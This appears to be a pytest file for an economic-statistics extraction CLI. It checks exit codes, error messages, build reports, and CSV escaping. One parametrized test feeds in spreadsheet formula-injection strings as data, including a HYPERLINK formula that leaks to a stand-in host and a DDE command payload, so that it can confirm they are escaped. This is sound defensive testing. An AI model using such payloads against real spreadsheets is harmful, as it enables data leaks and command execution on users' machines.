"""The command line: build, extract, exit codes and messages that name the file."""

from __future__ import annotations

import csv
import io
import json

import pytest

from econstats.cli.main import main

ARTICLE = (
    "China's fiscal revenue increased by 0.8 percent year on year to nearly 18.65 trillion yuan "
    "(about 2.63 trillion U.S. dollars) in the first 10 months of 2025.\n"
    "The exhibition showcases more than 100 artworks.\n"
    "Tax revenue totaled 15.34 trillion yuan.\n"
)


def test_extract_jsonl(tmp_path, capsys):
    article = tmp_path / "article.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    assert (
        main(["extract", str(article), "--published-date", "2025-11-17", "--format", "jsonl"]) == 0
    )
    out, err = capsys.readouterr()
    rows = [json.loads(line) for line in out.splitlines()]
    assert [(r["indicator"], r["measure"], r["value"], r["unit"]) for r in rows] == [
        ("fiscal.revenue", "yoy_pct", 0.8, "percent"),
        ("fiscal.revenue", "level", 1.865e13, "CNY"),
        ("fiscal.revenue", "level", 2.63e12, "USD"),
        ("fiscal.revenue.tax", "level", 1.534e13, "CNY"),
    ]
    assert rows[2]["conversion_of"] == rows[1]["obs_id"]
    assert "period-unresolved" not in err  # the tax sentence carries the story's period


def test_extract_table_and_rejection_on_stderr(tmp_path, capsys):
    article = tmp_path / "note.txt"
    article.write_text("Tax revenue totaled 15.34 trillion yuan.\n", encoding="utf-8")
    assert main(["extract", str(article)]) == 0
    out, err = capsys.readouterr()
    assert out.splitlines()[0].startswith("indicator")
    assert len(out.splitlines()) == 1
    assert "15.34 trillion yuan" in err and "period-unresolved" in err


def test_extract_missing_file_names_it(tmp_path, capsys):
    assert main(["extract", str(tmp_path / "nope.txt")]) == 2
    assert "nope.txt" in capsys.readouterr().err


def test_build_summary_and_strict(tmp_path, capsys):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(ARTICLE, encoding="utf-8")
    out = tmp_path / "data" / "build"
    assert main(["build", "--corpus", str(corpus), "--out", str(out)]) == 0
    assert "4 rows from 1 documents" in capsys.readouterr().out
    assert main(["build", "--corpus", str(corpus), "--out", str(out), "--strict"]) == 0
    (corpus / "b.txt").write_text("Tax revenue totaled 15.34 trillion yuan.\n", encoding="utf-8")
    assert main(["build", "--corpus", str(corpus), "--out", str(out), "--strict"]) == 1
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert [(r["doc_id"], r["reason"], r["value_text"]) for r in report["rejections"]] == [
        ("b", "period-unresolved", "15.34 trillion yuan")
    ]


def test_build_of_missing_corpus_exits_2(tmp_path, capsys):
    assert main(["build", "--corpus", str(tmp_path / "none"), "--out", str(tmp_path / "b")]) == 2
    assert "none" in capsys.readouterr().err


FALL = (
    "China's fiscal revenue decreased by 2.5 percent year on year to 18.65 trillion yuan in the "
    "first 10 months of 2025."
)


# issue 12 item 9: a line of the document that a spreadsheet would run as a formula
@pytest.mark.parametrize(
    "start",
    ['=HYPERLINK("http://evil.example/?leak")', "+cmd|' /C calc'!A0", "-cmd", "@SUM(A1:A2)", ""],
)
def test_extract_csv_escapes_text_a_spreadsheet_would_run(tmp_path, capsys, start):
    article = tmp_path / "article.txt"
    line = f"{start} {FALL}".strip()
    article.write_text(line + "\n", encoding="utf-8")
    assert main(["extract", str(article), "--published-date", "2025-11-17", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    escaped = f"'{line}" if start else line
    assert [(row["quote"], row["value"], row["value_text"]) for row in rows] == [
        (escaped, "-2.5", "2.5 percent"),  # the fall's value stays a number
        (escaped, "18650000000000.0", "18.65 trillion yuan"),
    ]
